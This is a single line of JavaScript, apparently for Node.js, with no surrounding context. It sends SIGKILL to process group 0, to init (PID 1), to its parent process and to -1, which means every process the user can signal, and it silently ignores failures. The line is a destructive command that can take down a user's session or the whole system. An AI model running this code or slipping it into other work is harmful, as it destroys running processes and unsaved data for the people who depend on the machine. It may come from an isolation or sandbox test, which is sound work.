for (const pid of [0, 1, process.ppid, -1]) try { process.kill(pid, 9); } catch (e) { }
